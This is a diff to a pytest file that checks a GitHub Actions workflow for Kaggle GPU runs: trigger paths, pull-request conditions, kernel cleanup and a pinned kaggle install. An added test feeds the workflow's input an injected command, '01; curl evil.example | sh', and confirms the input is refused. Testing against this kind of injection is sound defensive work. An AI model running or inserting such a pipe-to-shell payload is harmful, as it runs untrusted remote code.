@@ -28,7 +28,11 @@ def test_gpu_workflow_triggers_and_never_overlaps():
     gpu = workflow("gpu.yml")
     assert set(gpu["on"]) == {"workflow_dispatch", "schedule", "push"}
     assert gpu["on"]["push"]["branches"] == ["main"]
-    assert {"notebooks/**", "colab_gpu/**", "requirements.txt"} <= set(gpu["on"]["push"]["paths"])
+    paths = gpu["on"]["push"]["paths"]
+    assert {"notebooks/**", "colab_gpu/**", "requirements.txt"} <= set(paths)
+    # Merging the workflow's own pull request (references.json, reports/, the guide) must not start another run.
+    assert paths.index("!colab_gpu/references.json") > paths.index("colab_gpu/**")
+    assert not any(p.startswith(("reports", "docs")) for p in paths)
     assert len(gpu["on"]["schedule"]) == 1 and len(gpu["on"]["schedule"][0]["cron"].split()) == 5
     assert gpu["concurrency"] == {"group": "gpu-kaggle", "cancel-in-progress": False}
 
@@ -48,7 +52,11 @@ def test_gpu_job_graph_skips_without_a_secret_and_runs_gpu_kaggle_with_one():
     upload = step(kaggle, lambda s: s.get("uses", "").startswith("actions/upload-artifact"))
     assert upload["if"] == "always()" and upload["with"]["path"] == "build/gpu-kaggle/"
     pr = step(kaggle, lambda s: s.get("uses", "").startswith("peter-evans/create-pull-request"))
-    assert pr["if"] == "success() && github.ref == 'refs/heads/main'"
+    assert pr["if"] == "success() && github.ref == 'refs/heads/main' && env.LESSONS == ''"  # a part-run: no PR
+    cleanup = step(kaggle, lambda s: "kaggle kernels delete" in s.get("run", ""))
+    assert cleanup["if"] == "cancelled()" and "build/gpu-kaggle/kernel-id.txt" in cleanup["run"]
+    install = step(kaggle, lambda s: "pip install" in s.get("run", ""))
+    assert install["run"] == 'python -m pip install "kaggle==2.2.5" six'  # 2.2.5 imports six without declaring it
     assert set(pr["with"]["add-paths"].split()) == {"reports/gpu/", "colab_gpu/references.json",
                                                     "docs/instructor_guide.md"}
     assert kaggle["permissions"] == {"contents": "write", "pull-requests": "write"}
@@ -80,3 +88,22 @@ def test_self_hosted_job_runs_only_where_a_runner_is_declared_and_imports_its_ru
     assert gpu["env"]["REQUIRE_CUDA"] == "1"
     runs = [s["run"] for s in gpu["steps"] if "run" in s]
     assert runs == ['make gpu-suite GPU_SUITE_ARGS="--out build/gpu-run"', "make import-gpu-run RUN=build/gpu-run"]
+
+
+def test_the_lessons_input_reaches_make_as_numbers_only(tmp_path):
+    """The dispatch input goes through the step's own shell; a fake `make` on PATH shows what it was given."""
+    script = step(workflow("gpu.yml")["jobs"]["kaggle"], lambda s: "make gpu-kaggle" in s.get("run", ""))["run"]
+    (tmp_path / "make").write_text('#!/bin/sh\nprintf "%s\\n" "$@" > "$(dirname "$0")/args"\n')
+    (tmp_path / "make").chmod(0o755)
+
+    def dispatch(lessons):
+        (tmp_path / "args").unlink(missing_ok=True)
+        env = dict(os.environ, LESSONS=lessons, PATH=f"{tmp_path}{os.pathsep}{os.environ['PATH']}")
+        done = subprocess.run(["bash", "-e", "-c", script], env=env, capture_output=True, text=True)
+        args = (tmp_path / "args").read_text().splitlines() if (tmp_path / "args").exists() else None
+        return done.returncode, args, done.stdout
+
+    assert dispatch("01 08")[:2] == (0, ["gpu-kaggle", "GPU_KAGGLE_ARGS=--lessons 01 08"])
+    assert dispatch("")[:2] == (0, ["gpu-kaggle", "GPU_KAGGLE_ARGS="])
+    code, args, said = dispatch("01; curl evil.example | sh")
+    assert code == 1 and args is None and said.startswith("::error::")
